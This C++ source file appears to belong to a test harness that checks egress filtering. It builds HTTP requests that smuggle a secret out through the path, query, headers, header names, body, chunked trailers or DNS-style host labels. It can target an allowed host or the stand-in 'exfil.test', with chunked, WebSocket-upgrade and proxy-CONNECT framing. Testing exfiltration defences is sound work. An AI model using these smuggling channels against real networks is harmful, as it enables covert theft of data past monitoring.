#include "attacks/http_message.h"

#include "attacks/carrier.h"
#include "attacks/http_body.h"
#include "harness/digest.h"

namespace bottle {
namespace {

constexpr std::size_t kChunk = 7;

std::string in_chunks(const std::string& body, const std::vector<std::pair<std::string, std::string>>& trailers) {
  std::string text;
  for (std::size_t at = 0; at < body.size(); at += kChunk) {
    const std::string piece = body.substr(at, kChunk);
    text += std::to_string(piece.size()) + "\r\n" + piece + "\r\n";
  }
  text += "0\r\n";
  for (const auto& [name, value] : trailers) text += name + ": " + value + "\r\n";
  return text + "\r\n";
}

// The headers that say how the message is framed, and then the body.
std::string framed(const Exchange& exchange) {
  std::string text;
  if (exchange.upgrade)  // RFC 6455 4.1; any 16 bytes are a key
    text += "Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: " + to_base64(std::string(16, 'k')) +
            "\r\n";
  if (!exchange.body.empty()) text += "Content-Type: " + exchange.content_type + "\r\n";
  if (!exchange.body.empty() && !exchange.chunked)
    text += "Content-Length: " + std::to_string(exchange.body.size()) + "\r\n";
  if (exchange.chunked) text += "Transfer-Encoding: chunked\r\n";
  for (const auto& [name, value] : exchange.trailers) text += "Trailer: " + name + "\r\n";
  text += std::string("Connection: ") + (exchange.upgrade ? "Upgrade" : "close") + "\r\n\r\n";
  return text + (exchange.chunked ? in_chunks(exchange.body, exchange.trailers) : exchange.body);
}

}  // namespace

std::string url_of(const Exchange& exchange) {
  const bool usual = exchange.uri_port == (exchange.tls ? 443 : 80);
  return (exchange.tls ? "https://" : "http://") + exchange.uri_host +
         (usual ? "" : ":" + std::to_string(exchange.uri_port)) + exchange.target;
}

void set_message(const Choice& choice, const Brief& brief, Exchange& exchange) {
  const std::string secret = carried_secret(choice, brief);
  const std::string position = chosen(choice, "position", "none");
  exchange.agent = "bottle-verify/" + brief.nonce;
  exchange.target = "/bottle/" + brief.nonce;
  if (secret.empty()) return;
  if (position == "path") exchange.target += "/" + secret;
  if (position == "query") exchange.target += "?data=" + to_percent_reserved(secret);
  if (position == "header") exchange.headers.emplace_back("X-Data", secret);
  if (position == "header-name") exchange.headers.emplace_back("X-" + secret, "1");
  if (position == "body") set_body(chosen(choice, "content", "form"), secret, exchange);
  if (position == "trailer") {
    exchange.body = "data=none";
    exchange.trailers.emplace_back("X-Data", secret);
  }
  if (position == "host") {
    const bool allowed = chosen(choice, "target", "allowed") == "allowed";
    exchange.uri_host = as_labels(secret) + "." + brief.nonce + "." + (allowed ? brief.allowed_host : "exfil.test");
  }
  const std::string framing = chosen(choice, "framing", "length");
  exchange.upgrade = framing == "upgrade";
  exchange.chunked = !exchange.body.empty() && (framing == "chunked" || position == "trailer");
}

void try_with_prober(const Exchange& exchange, Attempt& attempt) {
  const std::string authority = exchange.uri_host + ":" + std::to_string(exchange.uri_port);
  const std::string uri = exchange.through_proxy && !exchange.tls ? url_of(exchange) : exchange.target;
  std::string request = (exchange.body.empty() ? "GET " : "POST ") + uri + " HTTP/1.1\r\nHost: " + exchange.host +
                        "\r\nUser-Agent: " + exchange.agent + "\r\nAccept: */*\r\n";
  for (const auto& [name, value] : exchange.headers) request += name + ": " + value + "\r\n";
  request += framed(exchange);
  attempt.action = {
      {"action", "http"}, {"address", exchange.dial.address}, {"port", exchange.dial.port}, {"timeout_ms", 4000},
      {"read_ms", 3000},  {"request", to_base64(request)}};
  if (exchange.through_proxy && exchange.tls) {
    const std::string& host = exchange.connect_host.empty() ? authority : exchange.connect_host;
    const std::string connect =
        "CONNECT " + authority + " HTTP/1.1\r\nHost: " + host + "\r\nUser-Agent: " + exchange.agent + "\r\n\r\n";
    attempt.action["connect"] = to_base64(connect);
    attempt.sent.push_back(segment("connect", connect));
  } else if (!exchange.before.empty()) {  // for the prober all the same: it goes on when the answer is 2xx
    attempt.action["connect"] = to_base64(exchange.before);
    attempt.sent.push_back(segment("connect", exchange.before));
  }
  if (!exchange.proxy_login.empty()) attempt.action["login"] = exchange.proxy_login;
  if (exchange.tls) {
    attempt.action["tls"] = {{"sni", exchange.sni}, {"verify", exchange.verify}, {"ca", exchange.ca_file}};
  }
  attempt.sent.push_back(segment("request", request));
}

}  // namespace bottle
